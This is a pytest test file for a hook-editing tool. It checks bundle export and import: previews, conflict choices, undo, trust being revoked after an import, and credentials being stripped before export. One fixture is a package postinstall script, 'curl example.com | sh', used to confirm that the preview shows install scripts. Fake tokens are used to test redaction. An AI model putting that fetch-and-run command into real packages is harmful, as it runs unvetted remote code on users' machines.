"""Hooks that leave a workspace in a bundle and come into another: what is shown, what is done, and that it is all or nothing."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from hookstudio.model.bundle import Action, Bundle, BundledHook, BundleHook, Choice, ImportResult
from hookstudio.model.errors import ChangedOutside, StudioError
from hookstudio.model.hook import Dialect
from hookstudio.model.progress import Cancelled
from hookstudio.storage.bundle_file import from_bytes, to_bytes
from hookstudio.studio.bundles import apply, export, planned, preview, preview_files
from hookstudio.studio.plain_files import TypeMissing
from hookstudio.studio.session import Session
from tests.storage.bundles import bundled
from tests.studio.workspaces import CLASSIC, ESM, again, all_files, folders_in, hook_id, new_session, slugs

OTHER = CLASSIC.replace("null", "null, /* other */")


def other_workspace(session: Session, name: str = "other") -> Session:
    return Session.create(session.root.parent / name, name, session.folders)


def exported(session: Session, name: str = "x.hookbundle", *hook_ids: str) -> Path:
    return export(session, session.root.parent / name, hook_ids or None).path


def imported(session: Session, path: Path, choice: Choice | None = None) -> ImportResult:
    shown = preview(session, path)
    return apply(session, shown, {hook.key: choice for hook in shown.hooks} if choice else {})


def by_key(hooks: tuple[BundleHook, ...]) -> Mapping[str, BundleHook]:
    return {hook.key: hook for hook in hooks}


def rich_session(tmp_path: Path) -> Session:
    """A workspace with whatever hooks can have."""
    session = new_session(tmp_path, "a", "b", "c")
    first = session.workspace.find_by_key("pre-login/a")
    session.describe(first.id, "Erste Zeile.\nZweite.")
    session.set_enabled(hook_id(session, "b"), False)
    session.set_node(hook_id(session, "c"), 20)
    session.contexts.save(first, "Grüße", {"user": {"id": "1"}})
    session.contexts.save(first, "second", [])
    session.create_hook("esm", "post-login", code=ESM)
    session.move(hook_id(session, "c"), 0)
    place = session.hook_folder(hook_id(session, "b"))
    (place / "package.json").write_text('{"dependencies": {"axios": "^1.0.0"}}', newline="\n")
    packages = {"": {"dependencies": {"axios": "^1.0.0"}}, "node_modules/axios": {"version": "1.6.7", "hasInstallScript": True}}
    (place / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": packages}), newline="\n")
    (place / "node_modules" / "axios").mkdir(parents=True)
    (place / "node_modules" / "axios" / "index.js").write_text("// not to be taken along")
    return session


def test_what_goes_out_comes_in_as_it_was(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    path = exported(session)
    target = other_workspace(session)
    result = imported(target, path)
    assert {each.action for each in result.hooks} == {"new"}
    assert [each.now for each in result.hooks] == [hook.key for hook in session.workspace]
    assert list(again(target).workspace) == list(session.workspace)
    here = {name: data for name, data in all_files(session.root).items() if "node_modules" not in name and name != "hookstudio.toml"}
    assert {name: data for name, data in all_files(target.root).items() if name != "hookstudio.toml"} == here
    assert exported(target, "y.hookbundle").read_bytes() == path.read_bytes()
    assert not again(target).workspace.problems and not again(target).notices


def test_one_hook_several_or_all(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    chosen = exported(session, "some.hookbundle", hook_id(session, "b"), hook_id(session, "c"))
    assert [each.hook.slug for each in from_bytes(chosen.read_bytes()).hooks] == ["c", "b"]
    with pytest.raises(StudioError):
        export(session, tmp_path / "none", ["no-such-id"])
    with pytest.raises(StudioError, match="no hook to export"):
        export(other_workspace(session), tmp_path / "none")
    assert not (tmp_path / "none").exists()


def test_no_local_state_and_no_credentials_travel(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    place = session.hook_folder(hook_id(session, "b"))
    lock = {"packages": {"node_modules/axios": {"version": "1.6.7", "resolved": "https://ada:s3cret@npm.example.com/axios.tgz?cache=1"}}}
    lock["packages"]["node_modules/left"] = {"version": "1.0.0", "resolved": "https://npm.example.com/left.tgz?x=1&authToken=h1dden"}
    (place / "package-lock.json").write_text(json.dumps(lock))
    (place / ".npmrc").write_text("//npm.example.com/:_authToken=s3cret")
    (place / "notes.txt").write_text("s3cret")
    session.drafts.keep(hook_id(session, "a"), "s3cret draft", None)
    done = export(session, tmp_path / "x.hookbundle")
    data = done.path.read_bytes()
    assert b"s3cret" not in data and b"ada:" not in data and b"not to be taken" not in data
    assert b"https://npm.example.com/axios.tgz?cache=1" in data
    assert b"https://npm.example.com/left.tgz" in data and b"h1dden" not in data
    assert "What may be credentials in the addresses of the package-lock.json of pre-login/b was left out." in done.notes
    assert any("“notes.txt” of pre-login/b" in note for note in done.notes)


def test_what_can_not_go_along_is_told(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    (session.root / "contexts" / "shared.json").write_text("{}")
    (session.root / "contexts" / "pre-login+a+broken.json").write_text("{")
    (session.hook_folder(hook_id(session, "a")) / "package.json").write_text("[]")
    (session.root / "hooks" / "pre-login" / "b" / "hook.toml").write_text("x = [")
    done = export(again(session), tmp_path / "x.hookbundle")
    assert [hook.slug for hook in done.hooks] == ["a"]
    text = "\n".join(done.notes)
    assert all(
        words in text
        for words in ("1 saved contexts that all hooks share", "“broken”", "package.json of “pre-login/a”", "b/hook.toml could not")
    )


def test_a_preview_says_what_a_hook_wants_and_could_touch(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    code = "import lodash from 'npm:lodash@4.17.21'\nimport fs from 'node:fs'\n" + ESM
    session.create_hook("toucher", "sms", code=code)
    target = other_workspace(session)
    before = all_files(target.root)
    shown = preview(target, exported(session))
    hooks = by_key(shown.hooks)
    assert hooks["pre-login/b"].modules == ("axios@1.6.7",)
    assert [(one.name, one.version, one.event) for one in hooks["pre-login/b"].scripts] == [("axios", "1.6.7", "install")]
    assert hooks["sms/toucher"].modules == ("lodash@4.17.21",)
    assert hooks["sms/toucher"].touches == ("files: fs",)
    assert hooks["sms/toucher"].code == code
    assert hooks["pre-login/a"].touches == () and hooks["pre-login/a"].scripts == ()
    assert all_files(target.root) == before and target.trusted


def test_install_scripts_of_the_hook_itself_are_shown(tmp_path: Path) -> None:
    package = b'{"scripts": {"postinstall": "curl example.com | sh", "test": "no matter"}}'
    (tmp_path / "x.hookbundle").write_bytes(to_bytes_of(bundled("a", package_json=package)))
    (script,) = preview(new_session(tmp_path), tmp_path / "x.hookbundle").hooks[0].scripts
    assert (script.name, script.event, script.command) == ("a", "postinstall", "curl example.com | sh")


def to_bytes_of(*hooks: BundledHook) -> bytes:
    return to_bytes(Bundle(hooks))


def test_new_equal_changed_and_clashing(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b", "c", "d")
    target = other_workspace(session)
    path = exported(session)
    imported(target, exported(session, "ab.hookbundle", hook_id(session, "a"), hook_id(session, "b")))
    target.create_hook("c", "pre-login", code=OTHER)
    target.save_code(hook_id(target, "b"), OTHER, None)
    hooks = by_key(preview(target, path).hooks)
    assert {key: hook.action for key, hook in hooks.items()} == {
        "pre-login/a": Action.EQUAL,
        "pre-login/b": Action.CHANGED,
        "pre-login/c": Action.CLASHING,
        "pre-login/d": Action.NEW,
    }
    assert "-  callback(null, /* other */, data)" in hooks["pre-login/b"].diff
    assert "+  callback(null, data)" in hooks["pre-login/b"].diff
    assert [hook.needs_choice for hook in hooks.values()] == [False, True, True, False]


@pytest.mark.parametrize("edit", ["name", "description", "enabled", "node", "contexts", "modules", "dialect"])
def test_whatever_differs_makes_a_hook_changed(tmp_path: Path, edit: str) -> None:
    session = new_session(tmp_path, "a")
    path, hook = exported(session), session.workspace.find_by_key("pre-login/a")
    match edit:
        case "name":
            session.rename(hook.id, "new name")
        case "description":
            session.describe(hook.id, "new words")
        case "enabled":
            session.set_enabled(hook.id, False)
        case "node":
            session.set_node(hook.id, 20)
        case "contexts":
            session.contexts.save(hook, "x", {})
        case "modules":
            (session.hook_folder(hook.id) / "package.json").write_text("{}")
        case _:
            session.set_dialect(hook.id, Dialect.ESM)
    (shown,) = preview(session, path).hooks
    assert shown.action is Action.CHANGED and shown.diff


def test_skip_leaves_what_is_here(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    path = exported(session)
    session.save_code(hook_id(session, "a"), OTHER, None)
    before = all_files(session.root)
    result = imported(session, path, Choice.SKIP)
    assert [(each.action, each.now) for each in result.hooks] == [("skip", "")]
    assert all_files(session.root) == before
    assert session.trusted and not result.distrusted


def test_add_beside_makes_a_hook_of_its_own(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    session.contexts.save(session.workspace.find_by_key("pre-login/a"), "x", {"from": "there"})
    path = exported(session)
    session.contexts.save(session.workspace.find_by_key("pre-login/a"), "x", {"from": "here"})
    result = imported(session, path, Choice.RENAME)
    assert [each.action for each in result.hooks] == ["rename", "equal"]
    assert slugs(session) == ["a", "a-2", "b"]
    beside = session.workspace.find_by_key("pre-login/a-2")
    assert (beside.name, beside.id != hook_id(session, "a")) == ("a 2", True)
    assert [session.contexts.read(saved) for saved in session.contexts.list(beside)] == [{"from": "there"}]


def test_replace_puts_what_was_here_into_the_trash(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    source = other_workspace(session)
    imported(source, exported(session))
    source.rename(hook_id(source, "a"), "renamed")
    source.contexts.save(source.workspace.find_by_key("pre-login/a"), "there", {})
    session.contexts.save(session.workspace.find_by_key("pre-login/a"), "here", {})
    result = imported(session, exported(source), Choice.REPLACE)
    assert [(each.action, each.now) for each in result.hooks] == [("replace", "pre-login/a"), ("equal", "")]
    assert slugs(session) == ["a", "b"]
    (old,) = session.deleted()
    assert (old.name, [path.name for path in old.contexts]) == ("a", ["pre-login+a+here.json"])
    replaced = session.workspace.find_by_key("pre-login/a")
    assert replaced.name == "renamed"
    assert [saved.name for saved in session.contexts.list(replaced)] == ["there"]


def test_a_clashing_hook_takes_the_place_of_the_other(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b", "c")
    target = other_workspace(session)
    for name in ("x", "b", "y"):
        target.create_hook(name, "pre-login", code=OTHER)
    imported(target, exported(session, "b.hookbundle", hook_id(session, "b")), Choice.REPLACE)
    assert slugs(target) == ["x", "b", "y"]
    assert hook_id(target, "b") == hook_id(session, "b")
    assert target.read_code(hook_id(target, "b")).text == CLASSIC


def test_a_hook_that_is_of_another_type_there_moves(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    (tmp_path / "x.hookbundle").write_bytes(to_bytes_of(bundled("a", "sms", id=hook_id(session, "a"))))
    assert preview(session, tmp_path / "x.hookbundle").hooks[0].action is Action.CHANGED
    imported(session, tmp_path / "x.hookbundle", Choice.REPLACE)
    assert (slugs(session), slugs(session, "sms")) == (["b"], ["a"])
    session.undo()
    assert (slugs(session), slugs(session, "sms")) == (["a", "b"], [])


def test_new_hooks_stand_where_the_bundle_has_them(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b", "c", "d", "e")
    target = other_workspace(session)
    imported(target, exported(session, "bd.hookbundle", hook_id(session, "b"), hook_id(session, "d")))
    target.create_hook("own", "pre-login", code=OTHER)
    target.move(hook_id(target, "d"), 0)
    imported(target, exported(session))
    assert slugs(target) == ["d", "e", "a", "b", "c", "own"]
    assert any("another order" in note for note in preview(target, exported(session)).notes)


def test_an_import_is_one_step_that_can_be_taken_back_and_done_again(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    target = other_workspace(session)
    imported(target, exported(session))
    target.save_code(hook_id(target, "a"), OTHER, None)
    target.delete(hook_id(target, "b"))
    target.create_hook("b", "pre-login", code=OTHER)
    before, row = all_files(target.root), slugs(target)
    result = imported(target, exported(session), Choice.REPLACE)
    assert result.distrusted is False  # it was not trusted any more
    after = all_files(target.root)
    assert target.undo_text == "Import 2 hooks from “x.hookbundle”"
    for _ in range(2):
        target.undo()
        assert (all_files(target.root), slugs(target)) == (before, row)
        target.redo()
        assert all_files(target.root) == after
    assert list(again(target).workspace) == list(target.workspace)


def test_taking_back_keeps_what_was_changed_since_in_the_trash(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    target = other_workspace(session)
    imported(target, exported(session))
    target.save_code(hook_id(target, "a"), OTHER, None)
    target.edits.delete(hook_id(target, "b"))
    target.undo()
    assert list(target.workspace) == []
    assert {item.name for item in target.deleted()} == {"a", "b"}
    token = next(item.token for item in target.deleted() if item.name == "a")
    assert target.read_code(target.restore(token).id).text == OTHER


def test_an_import_ends_the_trust_until_the_user_gives_it_again(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    target = other_workspace(session)
    target.set_network(True)
    target.allow_unprotected()
    assert target.trusted and target.network
    result = imported(target, exported(session))
    assert result.distrusted
    assert not (target.trusted or target.network or target.runs_unprotected)
    assert not again(target).trusted
    target.undo()
    assert not target.trusted
    target.trust()
    target.redo()
    assert not target.trusted, "the code from outside is there again"


def test_a_network_that_was_allowed_is_closed_and_that_is_told(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    target = other_workspace(session)
    imported(target, exported(session, "a.hookbundle", hook_id(session, "a")))
    target.set_network(True)
    assert imported(target, exported(session)).distrusted
    assert not target.network


def test_nothing_that_comes_in_is_no_reason_for_distrust(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    assert imported(session, exported(session)).hooks[0].action == "equal"
    assert session.trusted and session.undo_text == "Create “a”"


def test_a_choice_that_is_missing_is_asked_for(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    path = exported(session)
    session.save_code(hook_id(session, "a"), OTHER, None)
    with pytest.raises(StudioError, match="not decided"):
        apply(session, preview(session, path), {})
    with pytest.raises(StudioError, match="not decided"):
        planned(preview(session, path), {})


def test_a_new_hook_can_be_left_out(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    target = other_workspace(session)
    shown = preview(target, exported(session))
    assert [each.action for each in planned(shown, {"pre-login/a": Choice.SKIP})] == ["skip", "new"]
    apply(target, shown, {"pre-login/a": Choice.SKIP})
    assert slugs(target) == ["b"]


@pytest.mark.parametrize("change", ["code", "gone", "new"])
def test_what_was_shown_is_what_is_done_or_nothing(tmp_path: Path, change: str) -> None:
    session = new_session(tmp_path, "a", "b")
    path = exported(session)
    target = other_workspace(session)
    imported(target, exported(session, "a.hookbundle", hook_id(session, "a")))
    target.save_code(hook_id(target, "a"), OTHER, None)
    target.trust()
    shown = preview(target, path)
    elsewhere = again(target)
    match change:
        case "code":
            elsewhere.save_code(hook_id(target, "a"), OTHER + "// more\n", None)
        case "gone":
            elsewhere.delete(hook_id(target, "a"))
        case _:
            elsewhere.create_hook("b", "pre-login", code=OTHER)
    before = all_files(target.root)
    with pytest.raises(ChangedOutside):
        apply(target, shown, {"pre-login/a": Choice.REPLACE})
    assert all_files(target.root) == before
    assert target.trusted
    assert not (target.root / ".hookstudio" / "exchange").exists()


def test_nothing_is_left_of_an_import_that_can_not_be_finished(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a", "b")
    session.create_hook("c", "sms", code=CLASSIC)
    session.contexts.save(session.workspace.find_by_key("pre-login/a"), "x", {})
    target = other_workspace(session)
    (target.root / "contexts").rmdir()
    (target.root / "contexts").write_text("a file where a folder should be")
    before = all_files(target.root)
    with pytest.raises(StudioError):
        imported(target, exported(session))
    assert all_files(target.root) == before
    assert target.trusted and list(target.workspace) == [] and target.undo_text is None
    assert not (target.root / ".hookstudio" / "exchange").exists()


def test_a_folder_name_that_something_unreadable_has_is_left_alone(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    target = other_workspace(session)
    (target.root / "hooks" / "pre-login" / "a").mkdir(parents=True)
    (target.root / "hooks" / "pre-login" / "a" / "mine.txt").write_text("mine")
    (target.root / "contexts" / "pre-login+a-2+x.json").write_text('"mine"')
    session.contexts.save(session.workspace.find_by_key("pre-login/a"), "x", {})
    target.reload()
    result = imported(target, exported(session))
    assert result.hooks[0].now == "pre-login/a-2"
    assert any("pre-login/a-2" in note for note in result.notes)
    assert (target.root / "hooks" / "pre-login" / "a" / "mine.txt").read_text() == "mine"
    assert (target.root / "contexts" / "pre-login+a-2+x.json").read_text() == '"mine"'
    assert (target.root / "contexts" / "pre-login+a-2+x 2.json").read_text() == "{}\n"


def test_two_hooks_that_want_one_place(tmp_path: Path) -> None:
    session = new_session(tmp_path, "x")
    here = hook_id(session, "x")
    path = tmp_path / "x.hookbundle"
    path.write_bytes(to_bytes_of(bundled("x", id="another"), bundled("z", id=here)))
    assert [hook.action for hook in preview(session, path).hooks] == [Action.CLASHING, Action.CHANGED]
    imported(session, path, Choice.REPLACE)
    assert {hook.id for hook in session.workspace} == {here, "another"}
    assert len({hook.slug for hook in session.workspace}) == 2
    assert not again(session).workspace.problems
    session.undo()
    assert [hook.id for hook in session.workspace] == [here]


def test_the_node_that_hooks_ran_on_is_told(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    session.set_default_node(14)
    shown = preview(other_workspace(session), exported(session))
    assert shown.notes == ("Hooks that ask for no Node of their own ran on Node 14 where they are from, and run on Node 24 here.",)


def test_drafts_of_replaced_hooks_stay(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    path, here = exported(session), hook_id(session, "a")
    session.save_code(here, OTHER, None)
    session.drafts.keep(here, "unsaved", None)
    imported(session, path, Choice.REPLACE)
    draft = session.drafts.get(here)
    assert draft is not None and draft.text == "unsaved"


def test_a_manifest_that_can_not_be_read_is_left_alone(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    target = other_workspace(session)
    (target.root / "hookstudio.toml").write_text("<<<<<<< HEAD\n")
    target.reload()
    imported(target, exported(session))
    assert slugs(target) == ["a"]
    assert (target.root / "hookstudio.toml").read_text() == "<<<<<<< HEAD\n"


def test_many_at_once_in_bounded_time(tmp_path: Path) -> None:
    hooks = [bundled(f"h{number:04}", contexts={"x": b"{}\n"}) for number in range(300)]
    path = tmp_path / "x.hookbundle"
    path.write_bytes(to_bytes_of(*hooks))
    session = Session.create(tmp_path / "ws", "Test", folders_in(tmp_path))
    imported(session, path)
    assert slugs(session) == [each.hook.slug for each in hooks]
    session.undo()
    assert list(session.workspace) == [] and not list((session.root / "contexts").iterdir())
    session.redo()
    assert slugs(session) == [each.hook.slug for each in hooks]


class GivesUp:
    cancelled = True

    def __call__(self, done: int, total: int, note: str = "") -> None:
        raise AssertionError((done, total, note))


def test_who_gives_up_an_export_or_a_preview_has_nothing_of_it(tmp_path: Path) -> None:
    session = new_session(tmp_path, "a")
    with pytest.raises(Cancelled):
        export(session, tmp_path / "never.hookbundle", None, GivesUp())
    assert not (tmp_path / "never.hookbundle").exists()
    with pytest.raises(Cancelled):
        preview(session, exported(session), None, GivesUp())


def test_code_files_come_together_and_say_no_type(tmp_path: Path) -> None:
    session = new_session(tmp_path)
    files = [tmp_path / "one.js", tmp_path / "two.mjs"]
    for file, code in zip(files, (CLASSIC, ESM), strict=True):
        file.write_text(code, encoding="utf-8")
    with pytest.raises(TypeMissing):
        preview_files(session, files)
    shown = preview_files(session, files, "post-login")
    apply(session, shown, {})
    assert slugs(session, "post-login") == ["one", "two"]
